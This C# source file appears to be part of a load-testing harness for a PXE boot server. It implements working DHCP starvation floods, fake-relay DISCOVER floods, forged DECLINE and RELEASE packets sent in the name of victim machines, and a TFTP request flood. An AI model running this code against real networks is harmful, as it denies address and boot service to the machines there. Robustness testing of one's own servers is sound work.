using System.Net;
using System.Net.Sockets;
using System.Text;

namespace Anvil.Swarm.Attacks;

/// <summary>Attacks with packets: DHCP and TFTP.</summary>
internal static class PacketAttacks
{
    /// <summary>DISCOVERs and REQUESTs of random MAC addresses, 3,200 a second, from the attacker's link.</summary>
    public static async Task StrangersAsync(AttackTarget target, CancellationToken cancellation)
    {
        using var socket = DhcpPort.Open(target.Interface);
        var random = new Random(1);
        await AttackTarget.PacedAsync(3200, async () =>
        {
            var mac = Stranger(random);
            var packet = random.Next(4) == 0
                ? Packet(mac, DhcpPacket.Request, Wanted([10, 77, (byte)random.Next(128, 256), (byte)random.Next(1, 255)]))
                : Packet(mac, DhcpPacket.Discover);
            await SendAsync(target, socket, packet.ToBytes(), IPAddress.Broadcast, 67, cancellation);
        }, cancellation);
    }

    /// <summary>
    /// DISCOVERs of random MAC addresses by a host that names itself a relay: addresses of the pool, and others that nobody has. More than
    /// a relay may send.
    /// </summary>
    public static async Task RelaysAsync(AttackTarget target, CancellationToken cancellation)
    {
        using var socket = DhcpPort.Open(target.Interface);
        var random = new Random(2);
        await AttackTarget.PacedAsync(6000, async () =>
        {
            var bytes = Packet(Stranger(random), DhcpPacket.Discover).ToBytes();
            // giaddr (RFC 2131 section 2).
            new byte[] { 10, 77, (byte)random.Next(2, 256), (byte)random.Next(1, 255) }.CopyTo(bytes, 24);
            await SendAsync(target, socket, bytes, target.Server, 67, cancellation);
        }, cancellation);
    }

    /// <summary>
    /// DISCOVERs of firmware, RELEASEs and DECLINEs in the name of machines that boot: a few from their own link, and more than a card may
    /// send by relays that are none.
    /// </summary>
    public static async Task ForgedAsync(AttackTarget target, CancellationToken cancellation)
    {
        using var socket = DhcpPort.Open(target.Interface);
        var random = new Random(3);
        var number = 0;
        await AttackTarget.PacedAsync(800, async () =>
        {
            const byte Decline = 4, Release = 7;
            var mac = target.Victims[random.Next(target.Victims.Count)];
            var type = new[] { DhcpPacket.Discover, Decline, Release }[random.Next(3)];
            var address = new byte[] { 10, 77, 128, (byte)random.Next(1, 40) };
            var packet = type == DhcpPacket.Discover ? Packet(mac, type) : Packet(mac, type, Wanted(address));
            var bytes = packet.ToBytes();
            if (type == Release) address.CopyTo(bytes, 12);
            var isByRelay = number++ % 40 != 0;
            if (isByRelay) new byte[] { 10, 77, (byte)random.Next(2, 256), (byte)random.Next(1, 255) }.CopyTo(bytes, 24);
            await SendAsync(target, socket, bytes, isByRelay ? target.Server : IPAddress.Broadcast, 67, cancellation);
        }, cancellation);
    }

    /// <summary>TFTP requests with the longest patience, 200 a second from all its addresses, never acknowledged.</summary>
    public static async Task TransfersAsync(AttackTarget target, CancellationToken cancellation)
    {
        byte[] request = [0, 1, .. Encoding.ASCII.GetBytes("ipxe.efi\0octet\0timeout\0255\0windowsize\064\0blksize\08\0")];
        var sockets = new Queue<Socket>();
        try
        {
            var number = 0;
            await AttackTarget.PacedAsync(200, async () =>
            {
                var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
                sockets.Enqueue(socket);
                socket.Bind(new IPEndPoint(target.Own(number++), 0));
                await SendAsync(target, socket, request, target.Server, 69, cancellation);
                if (sockets.Count > 800) sockets.Dequeue().Dispose();
            }, cancellation);
        }
        finally
        {
            foreach (var socket in sockets) socket.Dispose();
        }
    }

    private static byte[] Stranger(Random random)
    {
        var mac = new byte[6];
        random.NextBytes(mac);
        mac[0] = 6;
        return mac;
    }

    private static DhcpPacket Packet(byte[] mac, byte type, params KeyValuePair<byte, byte[]>[] further)
    {
        var packet = new DhcpPacket { Mac = mac, TransactionId = (uint)Random.Shared.Next(), Broadcast = true };
        packet.Options[53] = [type];
        packet.Options[60] = "PXEClient:Arch:00007:UNDI:003001"u8.ToArray();
        packet.Options[93] = [0, 7];
        foreach (var (code, value) in further) packet.Options[code] = value;
        return packet;
    }

    private static KeyValuePair<byte, byte[]> Wanted(byte[] address) => new(50, address);

    private static async Task SendAsync(AttackTarget target, Socket socket, byte[] bytes, IPAddress to, int port,
        CancellationToken cancellation)
    {
        await socket.SendToAsync(bytes, new IPEndPoint(to, port), cancellation);
        target.Count();
    }
}
